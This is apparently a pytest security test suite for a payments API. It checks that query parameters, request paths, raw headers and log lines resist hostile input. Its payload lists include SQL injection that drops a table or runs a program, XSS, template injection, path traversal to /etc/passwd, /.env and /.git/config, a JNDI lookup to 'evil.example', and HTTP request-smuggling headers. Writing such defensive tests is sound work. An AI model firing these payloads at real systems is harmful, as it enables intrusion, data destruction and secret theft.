"""Text that other programs would carry out is taken as text, or refused; no request splits in two."""

import asyncio
import contextlib
import json
import secrets
import subprocess
import sys
from collections.abc import AsyncIterator

import pytest

from devstack.ports import HOST
from devstack.programs import ROOT
from tests.attacks.front import Front, serving
from tests.attacks.operations import operations

CANARY = f"canary{secrets.token_hex(6)}"

HOSTILE = [
    "'; DROP TABLE checkouts; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(9)",
    "$$; COPY x TO PROGRAM 'id'; $$",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "%0d%0aSet-Cookie:%20x=1",
    "\u202egpj.exe",
    "\u2066\u2069",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "${jndi:ldap://evil.example/a}",
    "A" * 300,
]


@pytest.fixture(scope="module")
async def front(module_database_url: str) -> AsyncIterator[Front]:
    async with serving(module_database_url) as opened:
        yield opened


async def test_every_parameter_takes_hostile_text_as_text(front: Front) -> None:
    holder = await front.holder("Hostile")
    for each in await operations(front.http):
        if not each.merchants:
            continue
        for text in HOSTILE:
            named = {
                item["name"]: text for item in each.described.get("parameters", []) if item["in"] == "query"
            }
            sent = {
                item["name"]: text for item in each.described.get("parameters", []) if item["in"] == "header"
            }
            headers = {name: value for name, value in sent.items() if value.isascii() and value.isprintable()}
            answer = await front.http.request(
                each.method, each.url().partition("?")[0], params=named, headers={**headers, **holder.headers}
            )
            assert answer.status_code < 500, (str(each), text, answer.text)
            assert answer.headers["content-type"] in ("application/json", "application/problem+json")
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "49" not in answer.json().get("detail", ""), "a template was carried out"
            if answer.status_code >= 400:
                assert text not in answer.text


@pytest.mark.parametrize(
    "path",
    [
        "/v1/checkouts/../../etc/passwd",
        "/v1/checkouts/..%2f..%2f..%2fetc%2fpasswd",
        "/v1/checkouts/%2e%2e/%2e%2e/",
        "/v1/checkouts/co_%00",
        "/v1/refunds/..;/admin/me",
        "/v1//checkouts",
        "//v1/checkouts",
        "/v1/checkouts%2f..%2fadmin%2fme",
        "/docs/../../config/settings.py",
        "/docs/problems/../../../pyproject.toml",
        "/.env",
        "/.git/config",
        "/static/../pyproject.toml",
        "/panel/..%2f..%2fpyproject.toml",
        "/admin/..%5c..%5cpyproject.toml",
        "/webhooks/..%2f..%2fetc%2fpasswd",
    ],
)
async def test_no_path_leads_out(front: Front, path: str) -> None:
    holder = await front.holder(f"Path {secrets.token_hex(4)}")
    for method in ("GET", "POST"):
        head = f"{method} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {holder.key}\r\n"
        answer = await raw(front, f"{head}Content-Length: 0\r\nConnection: close\r\n\r\n".encode())
        assert status(answer) in (400, 401, 404, 405, 422), (method, answer[:200])
        assert b"root:" not in answer
        assert b"[project]" not in answer


@pytest.mark.parametrize(
    "head",
    [
        "Idempotency-Key: a\r\n X: folded",
        "Idempotency-Key: a\nInjected: 1",
        "Idempotency-Key: a\rInjected: 1",
        "Idempotency-Key: a\0b",
        "Idempotency Key: a",
        "Content-Length: 5\r\nContent-Length: 6",
        "Content-Length: -1",
        "Content-Length: 0x10",
        "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    ],
    ids=lambda head: repr(head)[:40],
)
async def test_a_header_neither_splits_nor_smuggles(front: Front, head: str) -> None:
    """However it is read, the second request behind it is never answered as one of its own."""
    smuggled = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
    body = b"0\r\n\r\n" + smuggled
    request = f"POST /v1/checkouts HTTP/1.1\r\nHost: x\r\n{head}\r\nConnection: close\r\n\r\n".encode()
    answer = await raw(front, request + body)
    assert status(answer) in (None, 400, 401, 411, 413, 415, 422), answer
    assert b'{"status":"ok"}' not in answer
    assert b"Injected" not in answer


async def test_a_body_that_is_shorter_than_said_reaches_nobody(front: Front) -> None:
    head = b"POST /v1/checkouts HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    assert status(await raw(front, head + b"Content-Length: 99\r\n\r\n{}", end=True)) is None


def test_a_log_line_stays_one_line_whatever_is_logged() -> None:
    """New lines, terminal escapes and fields of one's own are escaped in JSON."""
    hostile = f'x\n{{"event": "{CANARY}"}}\r\x1b[2J\u2028\u202e'
    program = (
        "import structlog; from config import logging; from config.settings import Settings;"
        f"logging.configure(Settings()); structlog.get_logger().warning('test.event', value={hostile!r})"
    )
    done = subprocess.run(  # noqa: S603  # our own interpreter
        [sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, check=True, timeout=30
    )
    (line,) = done.stderr.splitlines()
    assert json.loads(line)["value"] == hostile
    assert json.loads(line)["event"] == "test.event"
    assert "\x1b" not in line


def status(answer: bytes) -> int | None:
    """None: the connection was closed without an answer."""
    return int(answer.split(b" ")[1]) if answer.startswith(b"HTTP/1.1 ") else None


async def raw(front: Front, request: bytes, *, end: bool = False) -> bytes:
    """Send bytes as they are; everything that comes back until the connection is closed, or for 3 seconds."""
    reader, writer = await asyncio.open_connection(HOST, front.port)
    got = bytearray()
    try:
        writer.write(request)
        await writer.drain()
        if end:
            writer.write_eof()
        async with asyncio.timeout(3):
            while chunk := await reader.read(65536):
                got += chunk
    except (TimeoutError, ConnectionError):
        pass
    finally:
        writer.close()
        with contextlib.suppress(ConnectionError):
            await writer.wait_closed()
    return bytes(got)
